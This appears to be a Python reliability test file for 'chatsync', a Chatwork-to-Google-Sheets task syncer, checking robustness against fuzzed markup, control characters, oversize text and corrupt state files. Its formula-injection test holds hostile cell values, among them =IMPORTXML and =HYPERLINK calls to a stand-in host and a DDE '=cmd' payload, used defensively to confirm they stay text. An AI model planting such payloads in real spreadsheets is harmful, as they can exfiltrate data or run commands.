"""What people type can never crash chatsync or steer it.

Fuzzed markup and folds; chat that tries formula injection; oversize text;
lone surrogates and control characters through Chatwork → store → sheet;
garbage typed into the human columns; a corrupt or read-only state file.
"""

from __future__ import annotations

import json
from pathlib import Path
from zoneinfo import ZoneInfo

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chatsync.calendar import BusinessCalendar
from chatsync.emulators.chatwork import ChatworkEmulator
from chatsync.emulators.sheets import SheetsEmulator
from chatsync.models import ChatMessage, Member, Room
from chatsync.parser.extract import RoomContext, apply_messages
from chatsync.parser.markup import ParsedMessage, parse
from chatsync.sheet.rows import CELL_LIMIT, CUT_MARKER, fit_cell, task_to_cells
from chatsync.store import open_store
from tests.reliability.conftest import Outcome
from tests.reliability.helpers import (
    DAY1,
    DIGEST_DAY,
    MANAGERS,
    WORKSHEET,
    assert_exactly_once,
    at,
    board,
    chatsync,
    sync,
    sync_here,
    team,
)

TZ = ZoneInfo("Asia/Tokyo")
CTX = RoomContext(
    room=Room(room_id=10, name="営業部"),
    members=[Member(account_id=11, name="田中 太郎"), Member(account_id=12, name="佐藤 花子")],
    tz=TZ,
    calendar=BusinessCalendar(),
)
HOSTILE = [
    "[To:12]",
    "[toall]",
    "[rp aid=11 to=10-1000001]",
    "[qt][qtmeta aid=11 time=1799000000]",
    "[/qt]",
    "[info][title]",
    "[/title][/info]",
    "[task aid=12 st=open lt=1799999999 ltype=date]",
    "[/task]",
    "お願いします",
    "明日までに",
    "完了しました",
    "=IMPORTXML(",
    "=HYPERLINK(",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\x00",
    "\x1b[31m",
    "\u202e",
    "\ud800",
    "\udfff",
    "\ufeff",
    "𠮷",
    "]" * 5,
    "[" * 5,
]
bodies = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40)), max_size=30).map(
    "".join
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text() | bodies)
def test_markup_parser_takes_any_string(body: str) -> None:
    assert isinstance(parse(body), ParsedMessage)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.sampled_from([11, 12, 13]), bodies), min_size=1, max_size=6))
def test_extractor_takes_any_messages_and_yields_writable_rows(
    items: list[tuple[int, str]],
) -> None:
    messages = [
        ChatMessage(
            room_id=10,
            message_id=str(1000001 + i),
            account_id=sender,
            account_name="",
            body=body,
            send_time=1799000000 + 60 * i,
        )
        for i, (sender, body) in enumerate(items)
    ]
    tasks = apply_messages([], messages, CTX)
    # Fed again, nothing changes (the watermark), and every row fits the sheet.
    assert apply_messages(tasks, messages, CTX) == tasks
    for task in tasks:
        assert task.task_id.startswith("cw-10-")
        cells = task_to_cells(task, TZ)
        assert all(len(text.encode("utf-16-le")) // 2 <= CELL_LIMIT for text in cells.values())


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=1, max_size=20), st.integers(0, 200))
def test_fit_cell_cuts_at_the_limit_with_the_marker(unit: str, extra: int) -> None:
    text = unit * (CELL_LIMIT // len(unit) + 1) + "x" * extra
    cut = fit_cell(text)
    assert len(cut.encode("utf-16-le", "surrogatepass")) // 2 <= CELL_LIMIT
    assert cut.endswith(CUT_MARKER) and text.startswith(cut.removesuffix(CUT_MARKER))


INJECTIONS = [
    '=IMPORTXML("http://evil.example/x","//a")の確認',
    '=HYPERLINK("http://evil.example","クリック")の確認',
    "+1の確認",
    "-2+3の集計",
    "@SUM(A1:A9)の確認",
    "\t=1+1の確認",
    "\r=1+1の確認",
]


def test_formula_injection_stays_text(
    chatwork: ChatworkEmulator,
    sheets: SheetsEmulator,
    spreadsheet_id: str,
    store_url: str,
    env: dict[str, str],
    outcome: Outcome,
) -> None:
    team(chatwork)
    chatwork.add_account(15, '=cmd|" /C calc"!A0')  # a hostile display name, too
    chatwork.add_member(10, 15)
    for i, text in enumerate(INJECTIONS):
        chatwork.add_message(
            10, 15, f"[To:12]佐藤 花子さん\n{text}をお願いします", at("2027-01-07T15:00") + i
        )
    done = sync(env, DAY1)
    assert done.returncode == 0, done.stderr
    assert sheets.formula_cells(spreadsheet_id) == []
    rows = sheets.values(spreadsheet_id, WORKSHEET)[1:]
    hostile = [r for r in rows if r[5] == '=cmd|" /C calc"!A0']
    assert len(hostile) == len(INJECTIONS)  # every one arrived, as text
    assert {r[2][:4] for r in hostile} >= {"=IMP", "=HYP", "+1の確"}
    counts = assert_exactly_once(board(store_url, sheets, spreadsheet_id))
    outcome(
        "hostile input",
        "chat text and a display name that try formula injection (`=`, `+`, `-`, `@`, "
        "`=IMPORTXML`, `=HYPERLINK`, tab/CR prefixes)",
        "written with valueInputOption RAW: every cell is text, no formula in the sheet",
        **counts,
    )


def test_control_characters_and_lone_surrogates_survive_the_pipeline(
    chatwork: ChatworkEmulator,
    sheets: SheetsEmulator,
    spreadsheet_id: str,
    store_url: str,
    env: dict[str, str],
    outcome: Outcome,
) -> None:
    team(chatwork)
    nasty = "資料\x00\x07\x1b[31m\u202e\ufeff\ud800𠮷"
    mid = chatwork.add_message(
        20, 13, f"[To:12]佐藤 花子さん\n{nasty}の作成をお願いします", at("2027-01-07T16:00")
    )
    chatwork.add_message(20, 13, "\udfff\x00 bare junk \r\n\x7f", at("2027-01-07T16:01"))
    done = sync(env, DAY1)
    assert done.returncode == 0, done.stderr
    store = open_store(store_url)
    try:
        stored = {m.message_id: m.body for m in store.room_messages(20)}
    finally:
        store.close()
    # The lone surrogate (not storable as UTF-8) became U+FFFD; everything else is kept.
    assert "資料\x00\x07\x1b[31m\u202e\ufeff\ufffd𠮷" in stored[mid]
    (row,) = [r for r in sheets.values(spreadsheet_id, WORKSHEET) if r[0] == f"cw-20-{mid}"]
    assert "\ufffd𠮷" in row[2]  # the parser drops control characters from titles
    assert sync(env, DAY1).returncode == 0  # and the next cycle is calm
    counts = assert_exactly_once(board(store_url, sheets, spreadsheet_id))
    outcome(
        "hostile input",
        "NUL, BEL, ESC, RTL override, BOM and lone surrogates (`\\ud800`) in chat",
        "stored and written as text; a lone surrogate becomes U+FFFD at the Chatwork "
        "boundary (it used to make the room unreadable for good); exit 0",
        **counts,
    )


def test_oversize_text_is_cut_with_the_marker(
    chatwork: ChatworkEmulator,
    sheets: SheetsEmulator,
    spreadsheet_id: str,
    store_url: str,
    env: dict[str, str],
    outcome: Outcome,
) -> None:
    team(chatwork)
    huge = "[To:12]佐藤 花子さん\n見積書の作成をお願いします。\n" + "詳細" * 500_000  # 1 MB
    mid = chatwork.add_message(10, 11, huge, at("2027-01-07T17:00"))
    sync_here(env, DAY1)
    store = open_store(store_url)
    try:
        assert [m.body for m in store.room_messages(10) if m.message_id == mid] == [huge]
        # A title over the cell limit (as a person might paste one) is written cut.
        task = next(t for t in store.all_tasks() if t.task_id == f"cw-10-{mid}")
        store.commit_sheet([], [task.model_copy(update={"title": "長" * 60_000})], [])
        long_id = task.task_id
    finally:
        store.close()
    # make the task dirty again so it is rewritten: an edit in chat re-parses it
    chatwork.edit_message(10, mid, huge + "！", at("2027-01-07T17:30"))
    done = sync(env, DAY1)
    assert done.returncode == 0, done.stderr
    (row,) = [r for r in sheets.values(spreadsheet_id, WORKSHEET) if r[0] == long_id]
    assert all(len(cell) <= CELL_LIMIT for cell in row)
    counts = assert_exactly_once(board(store_url, sheets, spreadsheet_id))
    outcome(
        "hostile input",
        "a 1 MB message body; a cell text over Google's 50,000-character limit",
        f"the body is stored whole; cells are cut to the limit ending in `{CUT_MARKER}`; "
        "the API never sees an oversize cell",
        **counts,
    )


GARBAGE = ["来週?", "12/32", 45000, True, "x" * 40_000, "2027-13-01"]


def test_garbage_in_the_human_columns_is_flagged_not_fatal(
    chatwork: ChatworkEmulator,
    sheets: SheetsEmulator,
    spreadsheet_id: str,
    store_url: str,
    env: dict[str, str],
    outcome: Outcome,
) -> None:
    team(chatwork)
    sync_here(env, DAY1)
    rows = sheets.values(spreadsheet_id, WORKSHEET)
    assert len(rows) - 1 >= len(GARBAGE)
    for i, value in enumerate(GARBAGE):
        sheets.set_cell(spreadsheet_id, WORKSHEET, f"E{i + 2}", value)  # 期限
    sheets.set_cell(spreadsheet_id, WORKSHEET, "B2", 3.14)  # ステータス
    sheets.set_cell(spreadsheet_id, WORKSHEET, "D3", False)  # 担当者
    sheets.set_cell(spreadsheet_id, WORKSHEET, "C4", "ｘ" * 45_000)  # タスク
    # A new request in chat: the next cycle writes, so it reads the sheet people left.
    chatwork.add_message(
        10, 11, "[To:13]鈴木 一郎さん\n名刺の発注をお願いします", at("2027-01-07T17:00")
    )
    done = sync(env, DAY1)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    assert "期限 '来週?' を読めません" in done.stderr and "'12/32' を読めません" in done.stderr
    env = {**env, "CHATSYNC_DIGEST__ROOM_IDS": str(MANAGERS)}
    dry = chatsync(env, "digest", "--now", DIGEST_DAY, "--dry-run")
    assert dry.returncode == 0, dry.stderr
    flagged = dry.stdout.split("期限を確認してください", 1)[1]
    assert "来週?" in flagged and "12/32" in flagged and "TRUE" in flagged
    real = chatsync(env, "digest", "--now", DIGEST_DAY)
    assert real.returncode == 0, real.stderr
    assert all(len(m.body) <= 10_000 for m in chatwork.posted(MANAGERS))
    counts = assert_exactly_once(board(store_url, sheets, spreadsheet_id))
    outcome(
        "hostile input",
        "garbage in the human columns: 期限 `来週?`, `12/32`, a number, a boolean, 40,000 "
        "characters, `2027-13-01`; a number in ステータス, a boolean in 担当者",
        "sync exits 0 and logs each unreadable 期限; the digest lists them under "
        "期限を確認してください",
        **counts,
    )


def test_corrupt_state_file_is_a_clear_error_not_a_fresh_start(
    chatwork: ChatworkEmulator,
    sheets: SheetsEmulator,
    spreadsheet_id: str,
    store_url: str,
    env: dict[str, str],
    outcome: Outcome,
) -> None:
    team(chatwork)
    env = {**env, "CHATSYNC_DIGEST__ROOM_IDS": str(MANAGERS)}
    sync_here(env, DAY1)
    assert chatsync(env, "digest", "--now", DIGEST_DAY).returncode == 0
    assert len(chatwork.posted(MANAGERS)) == 1
    path = Path(store_url.removeprefix("sqlite:///"))
    for suffix in ("-wal", "-shm"):
        Path(f"{path}{suffix}").unlink(missing_ok=True)
    data = path.read_bytes()
    broken = b"this is not a database, it was overwritten" + data[42 : len(data) // 2]
    path.write_bytes(broken)
    for args in (("sync", "--now", DAY1), ("digest", "--now", DIGEST_DAY)):
        done = chatsync(env, *args)
        assert done.returncode == 1, done.stderr
        (line,) = [ln for ln in done.stderr.splitlines() if ln.startswith("chatsync:")]
        assert "corrupt" in line and "restore it from a backup" in line
    assert path.read_bytes() == broken  # nothing was reset
    assert len(chatwork.posted(MANAGERS)) == 1  # so nothing was re-posted
    outcome(
        "state store",
        "state file overwritten/truncated (corrupt SQLite)",
        f"exit 1, `{line.removeprefix('chatsync: ')}`; the file is left as it is, "
        "no digest re-posted",
    )


def test_read_only_state_file_is_a_clear_error(
    chatwork: ChatworkEmulator,
    sheets: SheetsEmulator,
    spreadsheet_id: str,
    store_url: str,
    env: dict[str, str],
    outcome: Outcome,
) -> None:
    team(chatwork)
    sync_here(env, DAY1)
    path = store_url.removeprefix("sqlite:///")
    # Read-only at the SQLite level: file modes do not bind root, which CI runs as.
    env = {**env, "CHATSYNC_STORE__URL": f"sqlite:///file:{path}?mode=ro&uri=true"}
    done = sync(env, DAY1)
    assert done.returncode == 1, done.stderr
    (line,) = [ln for ln in done.stderr.splitlines() if ln.startswith("chatsync:")]
    assert "read-only" in line and "make it writable" in line
    assert "Traceback" not in done.stderr
    outcome(
        "state store",
        "state store read-only",
        f"exit 1, `{line.removeprefix('chatsync: ')}`",
    )


def test_digest_rooms_never_doubled_by_a_fresh_store_on_the_same_day(
    chatwork: ChatworkEmulator,
    sheets: SheetsEmulator,
    spreadsheet_id: str,
    store_url: str,
    env: dict[str, str],
) -> None:
    """Control for the corrupt-store test: the claim lives in the store alone."""
    team(chatwork)
    env = {**env, "CHATSYNC_DIGEST__ROOM_IDS": str(MANAGERS)}
    sync_here(env, DAY1)
    assert chatsync(env, "digest", "--now", DIGEST_DAY).returncode == 0
    store = open_store(store_url)
    try:
        posts = store.posts()
    finally:
        store.close()
    assert [(room, kind) for room, _, kind, _ in posts] == [(MANAGERS, "digest")]
    assert json.dumps(posts[0][3]) != "null"  # the posted message id is recorded
